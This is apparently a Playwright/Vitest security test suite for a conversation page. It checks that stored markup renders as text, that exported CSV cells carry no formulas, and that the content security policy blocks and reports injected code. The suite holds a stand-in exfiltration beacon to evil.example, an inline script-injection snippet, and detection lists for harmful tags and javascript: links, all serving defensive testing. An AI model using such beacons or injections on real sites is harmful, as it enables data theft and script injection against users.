/// <reference lib="dom" />
import { readFile } from 'node:fs/promises';
import type { Firestore } from '@google-cloud/firestore';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { holdAttackCounts } from '../reliability/attacks/attack-report.ts';
import { havePublished } from '../reliability/attacks/payloads.ts';
import { batches, conversationId, fieldsWithAll, writeAttacks } from './attacking-documents.ts';
import { useOwnSystem } from './signed-in.ts';
import { type StartedStack, startWithDatabase } from './start-stack.ts';

// Whatever a document holds, the page draws it as text.

/** What happened in the page that must not. */
type Watch = { dialogs: string[]; foreign: string[]; violations: string[]; errors: string[] };

describe('documents that attack the page', () => {
  let stack: StartedStack;
  let page: Page;
  let db: Firestore;
  const watch: Watch = { dialogs: [], foreign: [], violations: [], errors: [] };
  useOwnSystem(startWithDatabase, async (opened, { system }) => {
    page = opened;
    stack = system;
    db = system.db;
    const [user] = (await db.collection('users').get()).docs;
    await writeAttacks(db, user?.id ?? '');
    const own = new Set(Object.values(stack.origins).map((origin) => new URL(origin).host));
    page.on('dialog', (dialog) => {
      watch.dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      const { protocol, host } = new URL(request.url());
      const local = protocol === 'data:' || protocol === 'blob:' || own.has(host);
      if (!local) watch.foreign.push(request.url());
    });
    page.on('console', (message) => {
      if (/Content Security Policy|refused to/i.test(message.text())) watch.violations.push(message.text());
    });
    page.on('pageerror', (error) => watch.errors.push(error.message));
  });

  it('run no script, reach no other host and add no element, in any field of any shape', async () => {
    await page.goto(`${stack.url}/c/${conversationId}`);
    const log = page.getByRole('log', { name: 'Messages' });
    await log.getByText(`question ${batches.length - 1}`).waitFor();
    const figures = page.getByRole('region', { name: 'Visualizations' }).getByRole('figure');
    await figures.first().waitFor();
    expect(await log.getByText(/^question \d+ /).count()).toBe(batches.length);
    expect(await figures.count()).toBe(3 * batches.length);
    const elements = await listHarmful(page);
    await page.evaluate(async () => {
      for (const element of document.querySelectorAll('[role=log] p, figure')) {
        element.scrollIntoView();
        await new Promise((resolve) => setTimeout(resolve, 5));
      }
    });
    for (const figure of await figures.all()) {
      const asTable = figure.getByRole('button', { name: 'Show as table' });
      if ((await asTable.count()) > 0) await asTable.first().click();
    }
    elements.push(...(await listHarmful(page)));
    // The payloads are there to be read, as text.
    const text = await page.locator('body').innerText();
    expect(text).toContain('<script>window.attacked=1</script>');
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    expect(watch).toEqual({ dialogs: [], foreign: [], violations: [], errors: [] });
    expect(elements).toEqual([]);
    expect(new URL(page.url()).origin).toBe(stack.url);
    if (!havePublished) return;
    holdAttackCounts('markup in every field that the page draws', {
      tried: batches.flat().length * fieldsWithAll,
      ...{
        leaked: watch.foreign.length,
        changed: null,
        executed: elements.length + watch.dialogs.length,
        unaudited: null,
      },
    });
  });

  it('leave no formula in a CSV file, and keep negative numbers numbers', async () => {
    await page.goto(`${stack.url}/c/${conversationId}`);
    const button = page.getByRole('button', { name: 'Export CSV' });
    await button.waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), button.click()]);
    const csv = await readFile(await download.path(), 'utf8');
    const cells = readCells(csv.replace('\ufeff', ''));
    const formulas = cells.filter(({ text, quoted }) => quoted && /^[\s\u200b]*[=+\-@\t\r]/.test(text));
    expect(formulas.slice(0, 3)).toEqual([]);
    expect(cells).toContainEqual({ text: '-12.5', quoted: false });
    if (!havePublished) return;
    holdAttackCounts('formulas in exported CSV files', {
      ...{
        tried: batches.flat().length,
        leaked: null,
        changed: null,
        executed: formulas.length,
        unaudited: null,
      },
    });
  });

  it('are stopped by the content security policy where they got through, and the browser reports it', async () => {
    const reports = () =>
      stack.functionLog.filter((line) => line.includes('Content security policy violated'));
    expect(reports()).toEqual([]);
    await page.evaluate(() => {
      new Image().src = 'https://evil.example/pixel.png?q=stock';
      const script = document.createElement('script');
      script.textContent = 'window.attacked = 1';
      document.body.append(script);
    });
    await expect.poll(() => reports().length).toBe(2);
    const text = reports().join();
    expect(text).toContain('"directive":"img-src","blocked":"https://evil.example/pixel.png"');
    expect(text).toContain('"directive":"script-src-elem","blocked":"inline"');
    expect(text).not.toContain('q=stock');
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
  });
});

/** Elements and attributes that nothing in a conversation may become. */
function listHarmful(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const regions = [...document.querySelectorAll('[role=log], [role=region], section, nav, main')];
    const inside = new Set(regions.flatMap((region) => [...region.querySelectorAll('*')]));
    const tags = new Set([
      'SCRIPT',
      'IFRAME',
      'OBJECT',
      'EMBED',
      'IMG',
      'LINK',
      'META',
      'BASE',
      'FORM',
      'VIDEO',
      'AUDIO',
      'MARQUEE',
      'STYLE',
    ]);
    const isHarmful = (element: Element) =>
      (tags.has(element.tagName) && !(element.tagName === 'FORM' && element.querySelector('textarea'))) ||
      element.getAttributeNames().some((name) => name.startsWith('on')) ||
      /^\s*(javascript|data|vbscript):/i.test(element.getAttribute('href') ?? '') ||
      (element.tagName === 'A' &&
        new URL(element.getAttribute('href') ?? '', location.href).origin !== location.origin);
    return [...inside].filter(isHarmful).map((element) => element.outerHTML.slice(0, 200));
  });
}

/** Cells of a CSV file as RFC 4180 has them. */
function readCells(csv: string): { text: string; quoted: boolean }[] {
  const cells = csv.matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g);
  return [...cells].map(([, quoted, plain]) => ({
    text: quoted?.replaceAll('""', '"') ?? plain ?? '',
    quoted: quoted !== undefined,
  }));
}
